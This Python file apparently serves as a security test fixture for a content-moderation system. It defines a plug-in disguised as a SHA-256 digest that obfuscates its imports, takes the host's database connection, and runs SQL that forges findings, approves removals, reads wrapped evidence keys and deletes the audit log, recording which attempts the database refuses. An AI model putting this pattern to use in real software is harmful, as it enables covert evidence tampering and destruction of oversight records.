"""A plug-in that hides what it reaches for from whoever reads its imports, and strikes when it is used."""

from __future__ import annotations

import os
import sys
from pathlib import Path

from safehold.signals.digests import Sha256

if told := os.environ.get("SLY_LOADED"):
    Path(told, str(os.getpid())).touch()

ATTEMPTS = {
    "an assessment in a person's name": """
        insert into assessment (id, case_id, purpose, item_id, analyst_id, form, finding, category, answers,
            tier, policy_version, filed_at)
        select gen_random_uuid(), c.case_id, 'test', c.item_id, u.id, 'imagery', 'illegal', 'A', '{}', 'none',
            '1', now() from case_item c, app_user u limit 1""",
    "an outcome in a person's name": """
        insert into outcome (id, case_id, purpose, item_id, finding, category, settled_at, settled_by,
            rests_on, tier)
        select gen_random_uuid(), c.case_id, 'test', c.item_id, 'illegal', 'A', now(), u.id,
            gen_random_uuid(), 'clear' from case_item c, app_user u limit 1""",
    "an outcome that rests on nothing": """
        insert into outcome (id, case_id, purpose, item_id, finding, category, settled_at, settled_by,
            rests_on, tier)
        select gen_random_uuid(), case_id, 'test', item_id, 'illegal', 'A', now(), gen_random_uuid(),
            gen_random_uuid(), 'clear' from case_item limit 1""",
    "an outcome on an assessment that it wrote itself": """
        with filed as (
            insert into assessment (id, case_id, purpose, item_id, analyst_id, form, finding, category,
                answers, tier, policy_version, filed_at)
            select gen_random_uuid(), c.case_id, 'test', c.item_id, u.id, 'imagery', 'illegal', 'A', '{}',
                'none', '1', now() from case_item c, app_user u limit 1 returning *)
        insert into outcome (id, case_id, purpose, item_id, finding, category, settled_at, settled_by,
            rests_on, tier)
        select gen_random_uuid(), case_id, purpose, item_id, finding, category, now(), analyst_id, id, 'clear'
            from filed""",
    "an approved removal": """
        insert into proposal (id, kind, item_id, case_id, outcome_id, state, planned_at, decided_at, policy)
        select gen_random_uuid(), 'remove_item', item_id, case_id, gen_random_uuid(), 'approved', now(),
            now(), 'remove_confirmed' from case_item limit 1""",
    "a message to the platform": """
        insert into delivery (id, event_id, item_id, destination, kind, body, state, attempts, created_at,
            next_attempt_at)
        select gen_random_uuid(), e.id, e.item_id, 'platform', 'proposal_approved', '{}', 'waiting', 0, now(),
            now() from event e where e.item_id is not null limit 1""",
    "a hold on a flag": """
        insert into hold (id, item_id, match_id, placed_at)
        select gen_random_uuid(), i.id, f.id, now() from item i, flag f where not exists (
            select from hold h where h.item_id = i.id and h.released_at is null) limit 1""",
    "a release": "update hold set released_at = now(), release_reason = 'item_cleared'",
    "a session": """
        insert into session (id, token_digest, user_id, form_token, client, must_enrol, created_at,
            last_seen_at, rotated_at, proved_at, expires_at)
        select gen_random_uuid(), '\\x00', id, 'x', 'x', false, now(), now(), now(), now(),
            now() + interval '1 day' from app_user limit 1""",
    "an entry of its own on a list": """
        insert into entry (id, list_id, signal_type, value, origin, added_at, added_seq)
        select gen_random_uuid(), id, 'sha256', '\\x00', 'own', now(), 99 from hash_list limit 1""",
    "a list that may hold for anything": "update hash_list set may_hold = true, purpose = 'own_terms'",
    "evidence that opens": "select wrapped from wrapped_key",
    "the log rewritten": "delete from audit_record",
}
"""What it wants, in plain SQL."""

RESULTS: dict[str, str] = {}
"""What became of each attempt: "done", or why it was refused."""


class Sly(Sha256):
    """A digest that attacks once, when it is first asked for a digest's text."""

    name = "sly"

    def parse(self, text: str) -> bytes:
        if not RESULTS:
            strike()
        return Sha256().parse(text)


def strike() -> None:
    """Find the process' own way to its database, open a connection of one's own, and try everything."""
    driver = sys.modules["psyc" + "opg"]
    seen = sys.modules["g" + "c"].get_objects()
    url = next(one.driver_url for one in seen if type(one).__name__ == "Database")
    for name, statement in ATTEMPTS.items():
        with driver.connect(url) as connection:
            try:
                connection.execute(statement)
            except driver.Error as error:
                RESULTS[name] = error.diag.constraint_name or error.diag.message_primary
                connection.rollback()
            else:
                RESULTS[name] = "done"
